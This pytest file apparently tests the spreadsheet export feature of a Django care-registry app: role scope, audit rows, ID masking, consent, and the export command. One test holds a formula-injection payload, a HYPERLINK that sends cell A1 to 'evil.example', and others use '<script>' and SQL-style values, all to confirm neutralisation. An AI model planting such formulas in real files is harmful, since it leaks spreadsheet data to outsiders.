"""Exports: scope (page, command and function), headers, formulas, BOM, audit, query counts."""

import codecs
import csv
import io
import os
import stat
import threading
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from carenet.accounts.models import User
from carenet.core import citizen_id, thaidate
from carenet.core.models import AuditEvent
from carenet.households.models import Consent, Household, HouseholdStatus, Person, PersonStatus
from carenet.spreadsheets import columns, exporting
from carenet.spreadsheets.tests.registry_data import (
    HOUSEHOLD_NAMES,
    HOUSEHOLDS_SEEN,
    VOLUNTEER_NAMES,
    VOLUNTEERS_SEEN,
    build_registry,
    make_household,
)
from carenet.volunteers.models import Volunteer, VolunteerStatus, VolunteerStatusChange
from conftest import PERSONAS, login

pytestmark = pytest.mark.django_db

ALL_HOUSEHOLDS = set(HOUSEHOLD_NAMES.values())
ALL_VOLUNTEERS = set(VOLUNTEER_NAMES.values())
EXPORTERS = {"national_admin", "auditor", "province_officer", "district_coordinator_a",
             "district_coordinator_b"}  # fmt: skip


@pytest.fixture
def registry(area_tree, personas):
    return build_registry(area_tree, personas)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[len(codecs.BOM_UTF8) :].decode("utf-8"))))


def read_xlsx(data: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def export_bytes(user: User, dataset: str, fmt: str = "csv", area_code: str = "") -> bytes:
    prepared = exporting.export_prepare(user=user, dataset=dataset, fmt=fmt, area_code=area_code)
    buffer = io.BytesIO()
    exporting.write(prepared, buffer)
    return buffer.getvalue()


def surnames(rows: list[list[str]], headers: list[str]) -> set[str]:
    assert rows[0] == headers
    column = headers.index("นามสกุล")
    return {row[column] for row in rows[1:]}


def response_bytes(response) -> bytes:
    return b"".join(response.streaming_content)


# --- Scope ---------------------------------------------------------------------------------


@pytest.mark.parametrize("persona", PERSONAS)
def test_household_export_holds_exactly_the_scope(personas, registry, persona):
    rows = read_csv(export_bytes(personas[persona], "households"))
    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN[persona]


@pytest.mark.parametrize("persona", PERSONAS)
def test_volunteer_export_holds_exactly_the_scope(personas, registry, persona):
    rows = read_csv(export_bytes(personas[persona], "volunteers"))
    assert surnames(rows, columns.volunteer_headers()) == VOLUNTEERS_SEEN[persona]


@pytest.mark.parametrize("persona", PERSONAS)
@pytest.mark.parametrize("dataset", ["households", "volunteers"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_page_access_matrix(client, personas, registry, persona, dataset, fmt):
    login(client, persona)
    before = AuditEvent.objects.count()
    response = client.get(reverse("spreadsheets:export", args=[dataset, fmt]))
    if persona not in EXPORTERS:
        # Volunteers may see their households but not take them away in a file.
        assert response.status_code == 403
        assert AuditEvent.objects.count() == before
        return
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Cache-Control"] == "no-store"
    data = response_bytes(response)
    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
    if dataset == "households":
        headers, seen, every = columns.household_headers(), HOUSEHOLDS_SEEN, ALL_HOUSEHOLDS
    else:
        headers, seen, every = columns.volunteer_headers(), VOLUNTEERS_SEEN, ALL_VOLUNTEERS
    assert surnames(rows, headers) == seen[persona]
    text = "\n".join(",".join(row) for row in rows)
    for outside in every - seen[persona]:
        assert outside not in text
    assert AuditEvent.objects.count() == before + 1


def test_volunteer_export_keeps_only_the_status_chosen(client, personas, registry):
    Volunteer.objects.filter(last_name="ปากน้ำดี").update(status=VolunteerStatus.RESIGNED)
    login(client, "district_coordinator_a")
    url = reverse("spreadsheets:export", args=["volunteers", "csv"])
    response = client.get(url, {"status": "active"})
    assert surnames(read_csv(response_bytes(response)), columns.volunteer_headers()) == {"อาสาดี"}
    assert "-active-" in response["Content-Disposition"]
    be_day = thaidate.file_stamp(timezone.localdate())
    assert f"-{be_day}.csv" in response["Content-Disposition"]  # the day in BE, as pages show it
    assert AuditEvent.objects.order_by("-pk")[0].details["status"] == "active"
    response = client.get(url, {"status": "resigned"})
    assert surnames(read_csv(response_bytes(response)), columns.volunteer_headers()) == {"ปากน้ำดี"}
    # The volunteer list's default, the network (active and inactive), leaves the resigned out.
    response = client.get(url, {"status": "network"})
    assert surnames(read_csv(response_bytes(response)), columns.volunteer_headers()) == {"อาสาดี"}
    # Out of scope stays out whatever the status; households ignore the volunteers' filter.
    response = client.get(url, {"status": "active", "area": "8602"})
    assert response.status_code == 404
    households = client.get(
        reverse("spreadsheets:export", args=["households", "csv"]), {"status": "resigned"}
    )
    rows = read_csv(response_bytes(households))
    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN["district_coordinator_a"]
    assert client.get(url, {"status": "sleeping"}).status_code == 404
    households_url = reverse("spreadsheets:export", args=["households", "csv"])
    assert client.get(households_url, {"status": "sleeping"}).status_code == 200


def test_the_export_page_offers_the_volunteers_status(client, registry):
    login(client, "district_coordinator_a")
    page = client.get(reverse("spreadsheets:home")).content.decode()
    assert 'name="status"' in page and 'value="deceased"' in page


def test_command_exports_volunteers_of_one_status(registry, tmp_path):
    Volunteer.objects.filter(last_name="อาสาดี").update(status=VolunteerStatus.INACTIVE)
    output = tmp_path / "v.csv"
    call_command(
        "export_volunteers", "--as", "province_officer", "--status", "active",
        "--output", str(output), stdout=io.StringIO(),
    )  # fmt: skip
    assert surnames(read_csv(output.read_bytes()), columns.volunteer_headers()) == {
        "รักถิ่น",
        "ปากน้ำดี",
    }


@pytest.mark.parametrize("url_args", [("households", "csv"), ("volunteers", "xlsx")])
def test_export_page_sends_anonymous_users_to_login(client, registry, url_args):
    response = client.get(reverse("spreadsheets:export", args=url_args))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_an_unknown_dataset_or_format_is_not_a_page(client, registry):
    login(client, "national_admin")
    assert client.get("/spreadsheets/export/people.csv").status_code == 404
    assert client.get("/spreadsheets/export/households.pdf").status_code == 404


@pytest.mark.parametrize(
    ("area", "expected"),
    [
        ("860101", {"ใจดี", "ศรีสุข"}),
        ("86010201", {"ทองคำ"}),
        ("8601", {"ใจดี", "ศรีสุข", "ทองคำ"}),
        # Wider than the scope: narrowed to the scope, never widened.
        ("86", {"ใจดี", "ศรีสุข", "ทองคำ"}),
    ],
)
def test_area_filter_narrows_within_the_scope(client, registry, area, expected):
    login(client, "district_coordinator_a")
    response = client.get(
        reverse("spreadsheets:export", args=["households", "csv"]), {"area": area}
    )
    assert response.status_code == 200
    assert surnames(read_csv(response_bytes(response)), columns.household_headers()) == expected


def test_the_households_lists_filters_carry_into_the_export(client, registry):
    """Only the households nobody serves, or of a group, as the households list chose them;
    in scope only, named in the file's name and in the audit row."""
    Household.objects.filter(pk=registry.households["ทองคำ"].pk).update(
        vulnerability=["bedridden", "elderly"]
    )
    login(client, "district_coordinator_a")
    url = reverse("spreadsheets:export", args=["households", "csv"])
    unserved = client.get(url, {"unserved": "on"})
    assert surnames(read_csv(response_bytes(unserved)), columns.household_headers()) == {"ศรีสุข"}
    assert "-unserved-" in unserved["Content-Disposition"]
    bedridden = client.get(url, {"group": "bedridden", "area": "8601"})
    assert surnames(read_csv(response_bytes(bedridden)), columns.household_headers()) == {"ทองคำ"}
    event = AuditEvent.objects.filter(action="spreadsheets.export_households").latest("pk")
    assert event.details["households"] == {"group": "bedridden"}
    assert client.get(url, {"group": "<script>"}).status_code == 404
    login(client, "district_coordinator_b")  # another district's: its own households only
    other = client.get(url, {"unserved": "on"})
    assert surnames(read_csv(response_bytes(other)), columns.household_headers()) == set()


def test_the_households_list_links_its_filters_to_the_export(client, registry):
    login(client, "district_coordinator_a")
    page = client.get(reverse("households:list"), {"unserved": "on", "q": "ศรีสุข"}).text
    part = page.split('data-testid="export-list"')[1][:700]
    assert "households.csv?unserved=on" in part and "q=" not in part


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_reply_tells_the_page_its_download_began(client, registry, fmt):
    login(client, "district_coordinator_a")
    url = reverse("spreadsheets:export", args=["households", fmt])
    response = client.get(url, {"ready": "k3x9a"})
    assert response.status_code == 200
    assert response.cookies["carenet_export"].value == "k3x9a"
    odd = client.get(url, {"ready": "<script>"})
    assert odd.status_code == 200 and "carenet_export" not in odd.cookies


@pytest.mark.parametrize("area", ["8602", "860201", "84", "99999999", "12", "86'--", "x"])
def test_area_outside_the_scope_looks_missing(client, registry, area):
    login(client, "district_coordinator_a")
    before = AuditEvent.objects.count()
    response = client.get(
        reverse("spreadsheets:export", args=["households", "csv"]), {"area": area}
    )
    assert response.status_code == 404
    assert AuditEvent.objects.count() == before


def test_a_volunteer_exports_only_their_assigned_households(personas, registry, area_tree):
    # Another household in volunteer A's own subdistrict, not assigned to them.
    make_household(area_tree["86010101"], "เพื่อนบ้าน")
    user = personas["volunteer_a"]
    rows = read_csv(export_bytes(user, "households"))
    assert surnames(rows, columns.household_headers()) == {"ใจดี"}
    ref = rows[0].index("รหัสครัวเรือน")
    assert {row[ref] for row in rows[1:]} == {str(registry.households["ใจดี"].pk)}
    with pytest.raises(exporting.AreaOutOfScope):
        exporting.export_prepare(user=user, dataset="households", fmt="csv", area_code="860102")


def test_volunteers_of_a_village_are_those_who_cover_it(personas, registry, area_tree):
    registry.volunteers["อาสาดี"].villages.set([area_tree["86010101"]])
    user = personas["province_officer"]
    rows = read_csv(export_bytes(user, "volunteers", area_code="86010101"))
    assert surnames(rows, columns.volunteer_headers()) == {"อาสาดี"}
    assert read_csv(export_bytes(user, "volunteers", area_code="86010102"))[1:] == []


# --- Contents ------------------------------------------------------------------------------


def test_csv_has_a_bom_and_the_import_headers(personas, registry):
    data = export_bytes(personas["national_admin"], "households")
    assert data.startswith(codecs.BOM_UTF8)
    assert read_csv(data)[0] == columns.household_headers()
    volunteers = export_bytes(personas["national_admin"], "volunteers")
    assert read_csv(volunteers)[0] == columns.volunteer_headers()


def test_xlsx_opens_with_bold_headers_the_import_reads(personas, registry):
    data = export_bytes(personas["province_officer"], "households", "xlsx")
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    assert headers == columns.household_headers()
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
    assert len(widths) == len(headers)
    assert all(exporting.MIN_WIDTH <= w <= exporting.MAX_WIDTH for w in widths.values())
    # Cells are text: a citizen ID keeps its digits, a phone its leading zero.
    rows = read_xlsx(data)
    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN["province_officer"]
    phone = rows[0].index("โทรศัพท์")
    assert "089-999-9999" in {row[phone] for row in rows[1:]}  # text Excel keeps as it is


def test_each_household_comes_head_first_and_together(personas, registry):
    rows = read_csv(export_bytes(personas["national_admin"], "households"))
    header = rows[0]
    ref, relation = header.index("รหัสครัวเรือน"), header.index("ความสัมพันธ์กับหัวหน้าครัวเรือน")
    started = []
    for row in rows[1:]:
        if not started or started[-1] != row[ref]:
            assert row[ref] not in started, "a household's rows are split"
            assert row[relation] == "หัวหน้าครัวเรือน"
            started.append(row[ref])
    assert len(started) == len(ALL_HOUSEHOLDS)


def test_citizen_ids_are_decrypted_with_dashes(personas, registry):
    person = registry.households["ใจดี"].members.order_by("pk").first()
    digits = person.read_citizen_id()
    data = export_bytes(personas["district_coordinator_a"], "households")
    assert citizen_id.formatted(digits).encode() in data
    volunteer = registry.volunteers["อาสาดี"]
    rows = read_csv(export_bytes(personas["district_coordinator_a"], "households"))
    column = rows[0].index("เลขประจำตัวประชาชน อพม.")
    assert citizen_id.formatted(volunteer.read_citizen_id()) in {row[column] for row in rows[1:]}


@pytest.mark.parametrize(("dataset", "fmt"), [("households", "csv"), ("volunteers", "xlsx")])
def test_the_read_only_auditor_s_file_masks_every_citizen_id(personas, registry, dataset, fmt):
    """As on a person's page, where the auditor may not reveal one: who read, not the IDs."""
    data = export_bytes(personas["auditor"], dataset, fmt)
    rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
    columns = [i for i, h in enumerate(rows[0]) if h.startswith("เลขประจำตัวประชาชน")]
    cells = [row[i] for row in rows[1:] for i in columns if row[i]]
    assert cells and all(cell.startswith("x-xxxx-xxxxx-") for cell in cells)
    clear = read_csv(export_bytes(personas["national_admin"], dataset))
    assert not clear[1][clear[0].index("เลขประจำตัวประชาชน")].startswith("x-")


def test_the_export_page_tells_the_auditor_his_files_are_masked(client, registry):
    login(client, "auditor")
    assert client.get(reverse("spreadsheets:home")).context["ids_masked"]
    login(client, "province_officer")
    assert not client.get(reverse("spreadsheets:home")).context["ids_masked"]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_cells_are_neutralised(personas, registry, area_tree, fmt):
    household = make_household(area_tree["86010101"], FORMULA, members=1)
    Person.objects.filter(household=household).update(first_name="+SUM(1,2)", phone="-1+2")
    data = export_bytes(personas["national_admin"], "households", fmt)
    if fmt == "xlsx":
        # Text cells, shown as written: Excel's quote prefix keeps them text, even when edited.
        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        texts = {cell.value: cell for cell in cells if cell.value}
        for value in (FORMULA, "+SUM(1,2)", "-1+2"):
            assert texts[value].data_type == "s" and texts[value].quotePrefix
        assert not texts["ศรีสุข"].quotePrefix  # ordinary text: no prefix
        return
    values = {value for row in read_csv(data) for value in row}
    assert "'" + FORMULA in values
    assert "'+SUM(1,2)" in values
    assert "'-1+2" in values
    assert FORMULA not in values


def test_every_export_is_logged_with_who_what_scope_and_rows(personas, registry):
    user = personas["district_coordinator_a"]
    export_bytes(user, "households", "xlsx", area_code="860101")
    event = AuditEvent.objects.get(action="spreadsheets.export_households")
    assert event.actor == user
    assert event.area_code == "860101"
    assert event.details == {"format": "xlsx", "rows": 4, "area": "860101", "scope": ["8601"]}
    export_bytes(personas["auditor"], "volunteers")
    event = AuditEvent.objects.get(action="spreadsheets.export_volunteers")
    assert event.details["rows"] == len(ALL_VOLUNTEERS)
    assert event.details["scope"] == [""]


def test_an_export_of_all_my_areas_is_logged_at_the_scope(personas, registry):
    """With no area chosen, the row carries the user's area, so that the province reads it."""
    export_bytes(personas["province_officer"], "households")
    event = AuditEvent.objects.get(action="spreadsheets.export_households")
    assert event.area_code == "86"
    assert event.details["area"] == "" and event.details["scope"] == ["86"]
    export_bytes(personas["district_coordinator_a"], "volunteers")
    event = AuditEvent.objects.get(action="spreadsheets.export_volunteers")
    assert event.area_code == "8601" and "rows_in_all" not in event.details


def test_an_export_wider_than_the_scope_is_logged_at_the_scope(personas, registry):
    export_bytes(personas["district_coordinator_a"], "households", area_code="86")
    event = AuditEvent.objects.get(action="spreadsheets.export_households")
    assert event.area_code == "8601" and event.details["area"] == "86"


def test_an_export_wider_than_the_scope_is_named_after_the_scope(personas, registry):
    """A district coordinator asking for the province gets their district, and the file says
    so; the log keeps what was asked."""
    user = personas["district_coordinator_a"]
    export = exporting.export_prepare(user=user, dataset="volunteers", fmt="csv", area_code="86")
    assert "-8601-" in export.filename and "-86-" not in export.filename
    province = personas["province_officer"]
    wide = exporting.export_prepare(user=province, dataset="volunteers", fmt="csv", area_code="86")
    assert "-86-" in wide.filename


def test_an_export_over_several_areas_is_logged_once_per_area(personas, registry, area_tree):
    """Each area's log shows what left it; the rows of the rows add up to the export."""
    from carenet.accounts.models import Role
    from carenet.accounts.tests.factories import AreaAssignmentFactory

    user = personas["district_coordinator_a"]
    AreaAssignmentFactory(user=user, role=Role.CENTRE_COORDINATOR, area=area_tree["8602"])
    rows = read_csv(export_bytes(user, "households"))
    events = AuditEvent.objects.filter(action="spreadsheets.export_households")
    events = events.order_by("area_code")
    assert [e.area_code for e in events] == ["8601", "8602"]
    assert sum(e.details["rows"] for e in events) == len(rows) - 1
    assert all(e.details["rows_in_all"] == len(rows) - 1 for e in events)
    assert all(e.details["areas"] == ["8601", "8602"] for e in events)


@pytest.mark.parametrize(
    ("details", "expected"),
    [
        ({"area": "", "scope": ["86"]}, "86"),
        ({"area": "", "scope": ["8601"]}, "8601"),
        ({"area": "", "scope": ["8601", "8602"]}, "86"),
        ({"area": "", "scope": ["8601", "8401"]}, ""),
        ({"area": "", "scope": [""]}, ""),
        ({"area": "860101", "scope": ["8601"]}, "860101"),
    ],
)
def test_exports_logged_before_get_the_area_they_covered(personas, details, expected):
    from importlib import import_module

    from django.apps import apps

    migration = import_module("carenet.spreadsheets.migrations.0003_export_audit_areas")
    event = AuditEvent.objects.create(
        action="spreadsheets.export_households", details={"format": "csv", "rows": 1, **details}
    )
    migration.name_areas(apps, None)
    event.refresh_from_db()
    assert event.area_code == expected


def test_moved_households_and_people_who_left_are_not_exported(personas, registry):
    Household.objects.filter(pk=registry.households["ศรีสุข"].pk).update(status=HouseholdStatus.MOVED)
    Person.objects.filter(household=registry.households["ใจดี"], relation="spouse").update(
        status=PersonStatus.DECEASED
    )
    rows = read_csv(export_bytes(personas["district_coordinator_a"], "households"))
    assert surnames(rows, columns.household_headers()) == {"ใจดี", "ทองคำ"}
    assert len(rows) == 1 + 1 + 2


def test_people_who_withdrew_consent_are_not_exported(personas, registry):
    household = registry.households["ศรีสุข"]
    withdrawn = Person.objects.filter(household=household)
    for person in withdrawn:
        Consent.objects.filter(person=person).delete()
        Consent.objects.create(
            person=person,
            basis="consent",
            purpose="ทดสอบ",
            given_on=date(2025, 1, 1),
            withdrawn_on=date(2025, 6, 1),
            area=person.area,
        )
    rows = read_csv(export_bytes(personas["district_coordinator_a"], "households"))
    assert "ศรีสุข" not in surnames(rows, columns.household_headers())
    assert AuditEvent.objects.get(action="spreadsheets.export_households").details["rows"] == (
        len(rows) - 1
    )
    # A fresh consent lifts the restriction: the person is exported again.
    person = withdrawn.first()
    Consent.objects.create(
        person=person, basis="consent", purpose="ทดสอบ", given_on=date(2025, 7, 1), area=person.area
    )
    rows = read_csv(export_bytes(personas["district_coordinator_a"], "households"))
    assert "ศรีสุข" in surnames(rows, columns.household_headers())


def test_area_options_follow_the_scope(personas, registry):
    codes = [a.code for a in exporting.area_options(user=personas["district_coordinator_a"])]
    assert codes == ["8601", "860101", "860102"]
    assert exporting.area_options(user=personas["volunteer_a"]) == []


# --- Query counts --------------------------------------------------------------------------


def grow(area_tree, households: int) -> None:
    codes = ["86010101", "86010102", "86010201"]
    for n in range(households):
        make_household(area_tree[codes[n % 3]], f"ครอบครัว{n}", members=3)


@pytest.mark.parametrize("dataset", ["households", "volunteers"])
def test_query_count_does_not_grow_with_the_rows(
    personas, registry, area_tree, django_assert_max_num_queries, dataset
):
    user = personas["province_officer"]
    with django_assert_max_num_queries(20) as small:
        export_bytes(user, dataset)
    grow(area_tree, 30)
    with django_assert_max_num_queries(len(small.captured_queries)):
        export_bytes(user, dataset, "xlsx")


def test_queries_grow_with_chunks_not_rows(
    personas, registry, area_tree, django_assert_max_num_queries, monkeypatch
):
    monkeypatch.setattr(exporting, "CHUNK", 10)
    user = personas["national_admin"]
    grow(area_tree, 20)  # 69 people in 7 chunks of 10
    rows = 2 * len(ALL_HOUSEHOLDS) + 20 * 3
    chunks = -(-rows // 10)
    # Per chunk: the people, their volunteers, their consents, and at most once the areas.
    with django_assert_max_num_queries(6 + 4 * chunks):
        assert len(read_csv(export_bytes(user, "households"))) == rows + 1


# --- The command ---------------------------------------------------------------------------


def test_command_exports_the_scope_of_the_user_named(registry, tmp_path):
    output = tmp_path / "households.csv"
    call_command(
        "export_households", "--as", "district_coordinator_a", "--format", "csv",
        "--output", str(output), stdout=io.StringIO(),
    )  # fmt: skip
    rows = read_csv(output.read_bytes())
    assert surnames(rows, columns.household_headers()) == HOUSEHOLDS_SEEN["district_coordinator_a"]
    event = AuditEvent.objects.get(action="spreadsheets.export_households")
    assert event.actor.username == "district_coordinator_a"


def test_command_narrows_to_an_area_and_writes_xlsx(registry, tmp_path):
    output = tmp_path / "out.xlsx"
    out = io.StringIO()
    call_command(
        "export_volunteers", "--as", "province_officer", "--area", "8602", "--format", "xlsx",
        "--output", str(output), stdout=out,
    )  # fmt: skip
    assert surnames(read_xlsx(output.read_bytes()), columns.volunteer_headers()) == {"รักถิ่น"}
    assert "1 แถว" in out.getvalue()


def test_command_as_a_volunteer_exports_nothing(registry, tmp_path):
    """As on the pages (403): a volunteer sees their households but may not export them."""
    output = tmp_path / "mine.csv"
    with pytest.raises(CommandError, match="ไม่มีสิทธิ์ส่งออก"):
        call_command(
            "export_households",
            "--as",
            "volunteer_b",
            "--output",
            str(output),
            stdout=io.StringIO(),
        )
    assert not output.exists()
    assert not AuditEvent.objects.filter(action__startswith="spreadsheets.export").exists()


def test_command_writes_into_a_pipe_without_replacing_it(registry, tmp_path):
    """--output /dev/null (or a pipe) was replaced by a regular file: the export was written
    beside it and renamed over it, and /dev/null stopped being one for the whole machine."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()))
    reader.start()
    call_command(
        "export_households", "--as", "district_coordinator_b", "--output", str(pipe),
        stdout=io.StringIO(),
    )  # fmt: skip
    reader.join(timeout=30)
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert "แก้วมณี" in surnames(read_csv(received[0]), columns.household_headers())
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--as", "district_coordinator_a", "--area", "8602"], "นอกพื้นที่"),
        (["--as", "district_coordinator_b", "--area", "99"], "นอกพื้นที่"),
        (["--as", "nobody"], "ไม่พบผู้ใช้"),
    ],
)
def test_command_refuses_what_is_outside_the_scope(registry, tmp_path, args, message):
    output = tmp_path / "x.csv"
    before = AuditEvent.objects.count()
    with pytest.raises(CommandError, match=message):
        call_command("export_households", *args, "--output", str(output), stdout=io.StringIO())
    assert not output.exists()
    assert list(tmp_path.iterdir()) == []
    assert AuditEvent.objects.count() == before


@pytest.mark.parametrize("command", ["export_households", "export_volunteers"])
def test_command_refuses_a_folder_or_a_missing_folder_for_output(registry, tmp_path, command):
    for output, message in ((tmp_path, "เป็นโฟลเดอร์"), (tmp_path / "no" / "x.csv", "ไม่พบโฟลเดอร์")):
        with pytest.raises(CommandError, match=message):
            call_command(
                command, "--as", "district_coordinator_a", "--output", str(output),
                stdout=io.StringIO(),
            )  # fmt: skip
    assert list(tmp_path.iterdir()) == []


def test_command_refuses_a_file_name_of_another_kind(registry, tmp_path):
    with pytest.raises(CommandError, match=r"ไม่ใช่ \.csv หรือ \.xlsx"):
        call_command(
            "export_households", "--as", "district_coordinator_a", "--output",
            str(tmp_path / "x.pdf"), stdout=io.StringIO(),
        )  # fmt: skip
    assert list(tmp_path.iterdir()) == []
    out = io.StringIO()
    call_command("export_households", "--as", "district_coordinator_a", "--area", "86",
                 "--output", str(tmp_path / "x.pdf"), "--format", "csv", stdout=out)  # fmt: skip
    assert "ของพื้นที่ 8601 " in out.getvalue()  # the district it covers, not the province


def test_command_refuses_a_user_without_a_role(registry, tmp_path, django_user_model):
    django_user_model.objects.create_user("norole", password="x")
    with pytest.raises(CommandError, match="ไม่มีสิทธิ์"):
        call_command(
            "export_volunteers", "--as", "norole", "--output", str(tmp_path / "v.csv"),
            stdout=io.StringIO(),
        )  # fmt: skip


# --- Export, then import again -------------------------------------------------------------


def snapshot() -> dict[str, list[dict]]:
    from carenet.households.models import Consent, HouseholdAssignment
    from carenet.volunteers.models import Volunteer

    def rows(model, exclude=()):
        fields = [f.attname for f in model._meta.concrete_fields if f.attname not in exclude]
        return list(model.objects.order_by("pk").values(*fields))

    # The encrypted ID differs at every encryption (a random nonce); its hash does not.
    secret = ("citizen_id_encrypted",)
    return {
        "households": rows(Household),
        "people": rows(Person, secret),
        "assignments": rows(HouseholdAssignment, ("assigned_at",)),
        "consents": rows(Consent),
        "volunteers": rows(Volunteer, secret),
    }


def typed_values(registry) -> None:
    """Values a workbook writes as numbers and dates, with their awkward cases: coordinates
    with trailing zeros, a consent's date, a birth date whose day number reads as a year
    typed alone (1905: written as text), a volunteer's home หมู่."""
    points = [("10.500000", "99.123400"), ("10.493012", "99.180001"), ("9.960000", "99.050000")]
    for household, (lat, lon) in zip(registry.households.values(), points, strict=False):
        Household.objects.filter(pk=household.pk).update(latitude=lat, longitude=lon)
    head = registry.households["ใจดี"].head
    Consent.objects.create(
        person=head, basis="consent", purpose="ทดสอบ", given_on=date(2024, 2, 29), area=head.area
    )
    Person.objects.filter(pk=head.pk).update(birth_date=date(1905, 3, 1))
    Volunteer.objects.filter(pk=registry.volunteers["อาสาดี"].pk).update(address_moo=3)


def warned(result) -> list[tuple]:
    return [(w.row, w.column, w.value, str(w.reason)) for w in result.warnings]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("persona", ["national_admin", "district_coordinator_a"])
def test_an_exported_households_file_imports_again_changing_nothing(
    personas, registry, fmt, persona
):
    from carenet.spreadsheets.importing import import_households

    typed_values(registry)
    user = personas[persona]
    data = export_bytes(user, "households", fmt)
    before = snapshot()
    result = import_households(actor=user, source=data)
    assert result.errors == []
    assert result.people.created == result.households.created == 0
    assert result.people.updated == result.households.updated == 0
    assert result.people.unchanged == len(read_csv(export_bytes(user, "households"))) - 1
    assert snapshot() == before
    # A workbook's numbers and dates warn of nothing its CSV does not.
    again = import_households(actor=user, source=export_bytes(user, "households"), dry_run=True)
    assert warned(result) == warned(again)


def _edited_export(user, edit) -> bytes:
    """The user's households export as CSV, with `edit(header, rows)` applied to its rows."""
    header, *rows = read_csv(export_bytes(user, "households"))
    edit(header, rows)
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return codecs.BOM_UTF8 + buffer.getvalue().encode("utf-8")


def test_an_export_row_whose_address_changed_under_its_household_number_is_refused(
    personas, registry
):
    """A new member typed under household N with another address would quietly make a new
    household: in an exported file the ref is the household's number, so it is an error."""
    from carenet.spreadsheets.importing import import_households

    user = personas["district_coordinator_a"]

    def new_member_elsewhere(header, rows):
        row = list(rows[0])
        for name, value in (("ชื่อ", "สมาชิกใหม่"), ("บ้านเลขที่", "999")):
            row[header.index(name)] = value
        for name in ("เลขประจำตัวประชาชน", "ข้อมูล ณ"):
            row[header.index(name)] = ""
        rows[:] = [row]

    before = snapshot()
    result = import_households(actor=user, source=_edited_export(user, new_member_elsewhere))
    [error] = result.errors
    assert error.column == "รหัสครัวเรือน" and "ครัวเรือนใหม่" in str(error.reason)
    assert snapshot() == before


def test_a_person_typed_under_another_households_number_is_refused(personas, registry):
    from carenet.spreadsheets.importing import import_households

    user = personas["district_coordinator_a"]
    refs = {}

    def under_another(header, rows):
        column = header.index("รหัสครัวเรือน")
        refs.update(first=rows[0][column])
        others = [r for r in rows if r[column] != rows[0][column]]
        rows[:] = [[*rows[0][:column], others[0][column], *rows[0][column + 1 :]]]

    result = import_households(actor=user, source=_edited_export(user, under_another))
    assert any(
        e.column == "รหัสครัวเรือน" and f"เลขที่ {refs['first']}" in str(e.reason) for e in result.errors
    ), result.errors


def test_a_file_of_its_own_numbers_its_households_as_it_likes(personas, registry):
    """Without the export's "data as of" column a ref only groups rows: 1, 2, 3 ..."""
    from carenet.spreadsheets.importing import import_households

    user = personas["district_coordinator_a"]

    def own_file(header, rows):
        column, as_of = header.index("รหัสครัวเรือน"), header.index("ข้อมูล ณ")
        for number, row in enumerate(rows, start=1):
            row[column] = str(number)
        for row in [header, *rows]:
            del row[as_of]

    result = import_households(actor=user, source=_edited_export(user, own_file), dry_run=True)
    assert not [e for e in result.errors if e.column == "รหัสครัวเรือน"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_volunteers_file_imports_again_changing_nothing(personas, registry, fmt):
    from carenet.spreadsheets.importing import import_volunteers

    typed_values(registry)
    user = personas["province_officer"]
    data = export_bytes(user, "volunteers", fmt)
    before = snapshot()
    result = import_volunteers(actor=user, source=data)
    assert result.errors == []
    assert result.volunteers.created == result.volunteers.updated == 0
    assert result.volunteers.unchanged == len(VOLUNTEERS_SEEN["province_officer"])
    assert snapshot() == before
    again = import_volunteers(actor=user, source=export_bytes(user, "volunteers"), dry_run=True)
    assert warned(result) == warned(again)


def test_a_workbook_corrected_in_a_spreadsheet_imports_its_correction(
    personas, registry, monkeypatch
):
    """Export, correct a cell, save, import: the as_of cell, a date and time, is read to the
    second, so a record edited in the second the export read it is not taken for an edit
    made after it (nor is one of an earlier second of that minute)."""
    from carenet.spreadsheets.importing import import_households

    read_at = timezone.localtime().replace(second=42, microsecond=0) - timedelta(hours=1)
    user = personas["province_officer"]
    head = registry.households["ใจดี"].head
    Person.objects.filter(pk=head.pk).update(updated_at=read_at.replace(microsecond=900_000))
    monkeypatch.setattr(exporting.timezone, "now", lambda: read_at)
    data = export_bytes(user, "households", "xlsx")
    monkeypatch.undo()
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("นามสกุล")].value == "ใจดี")
    assert row[header.index("ข้อมูล ณ")].value == read_at.replace(tzinfo=None)
    row[header.index("โทรศัพท์")].value = "081-111-1111"
    corrected = io.BytesIO()
    book.save(corrected)

    result = import_households(actor=user, source=corrected.getvalue())

    assert result.errors == []
    assert result.people.updated == 1
    head.refresh_from_db()
